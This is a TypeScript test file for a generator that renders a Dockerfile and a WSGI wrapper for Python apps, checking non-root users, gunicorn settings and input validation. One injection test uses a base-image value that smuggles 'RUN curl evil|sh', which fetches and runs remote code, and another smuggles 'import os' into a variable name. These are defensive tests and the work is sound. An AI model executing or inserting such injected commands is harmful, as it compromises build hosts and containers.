import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { InputError } from '@ashapp/platform';
import { defaultBaseImage, renderDockerfile, renderWsgiWrapper, writeBuildContext } from './dockerfile.ts';

describe('generated Dockerfile', () => {
  test('uses the official slim Python image, runs as a non-root user and serves with gunicorn on 0.0.0.0:<port>', () => {
    const text = renderDockerfile({ containerPort: 5000, hasRequirements: false });
    assert.match(text, new RegExp(`^FROM ${defaultBaseImage.replace(/[.]/g, '\\.')}$`, 'm'));
    assert.match(text, /^USER 10001:10001$/m);
    assert.match(text, /^EXPOSE 5000$/m);
    const cmd = JSON.parse(/^CMD (.*)$/m.exec(text)?.[1] ?? '[]') as string[];
    assert.deepEqual(cmd.slice(0, 5), ['python3', '-m', 'gunicorn', '--bind', '0.0.0.0:5000']);
    assert.equal(cmd.at(-1), 'ashapp_wsgi:application');
    // USER comes after every RUN so nothing the app runs as has root's rights.
    assert.ok(text.lastIndexOf('RUN ') < text.indexOf('USER '));
  });

  test('installs requirements only when they are given, before the code for layer reuse', () => {
    const without = renderDockerfile({ containerPort: 8000, hasRequirements: false, runtimeInstalled: true });
    assert.doesNotMatch(without, /pip|requirements/);
    const withReqs = renderDockerfile({ containerPort: 8000, hasRequirements: true, runtimeInstalled: true });
    assert.match(withReqs, /COPY requirements\.txt/);
    assert.ok(withReqs.indexOf('requirements.txt') < withReqs.indexOf('COPY app.py'));
  });

  test('installs flask and gunicorn with pip when the base image does not carry them', () => {
    const text = renderDockerfile({ containerPort: 5000, hasRequirements: false });
    assert.match(
      text,
      /RUN \["python3", "-m", "pip", "install", "--no-cache-dir", "flask==3\.1\.\*", "gunicorn==23\.\*"\]/,
    );
  });

  test('refuses a base image or port that is not valid', () => {
    assert.throws(
      () =>
        renderDockerfile({
          baseImage: 'python\nRUN curl evil|sh',
          containerPort: 5000,
          hasRequirements: false,
        }),
      InputError,
    );
    assert.throws(() => renderDockerfile({ containerPort: 0, hasRequirements: false }), InputError);
  });

  test('the WSGI wrapper answers /healthz unless the app has that route, and refuses odd variable names', () => {
    const wrapper = renderWsgiWrapper({ appVariable: 'server', appHasHealthRoute: false });
    assert.match(wrapper, /^from app import server as _app$/m);
    assert.match(wrapper, /_APP_HAS_HEALTH_ROUTE = False/);
    assert.match(
      renderWsgiWrapper({ appVariable: 'app', appHasHealthRoute: true }),
      /_APP_HAS_HEALTH_ROUTE = True/,
    );
    assert.throws(
      () => renderWsgiWrapper({ appVariable: 'app; import os', appHasHealthRoute: false }),
      InputError,
    );
  });

  test('writes the build context folder', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'ashapp-ctx-test-'));
    try {
      await writeBuildContext({
        dir,
        code: 'x = 1\n',
        requirements: 'flask\n',
        appVariable: 'app',
        appHasHealthRoute: false,
        containerPort: 5000,
      });
      assert.deepEqual((await readdir(dir)).sort(), [
        'Dockerfile',
        'app.py',
        'ashapp_wsgi.py',
        'requirements.txt',
      ]);
      assert.equal(await readFile(join(dir, 'app.py'), 'utf8'), 'x = 1\n');
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});
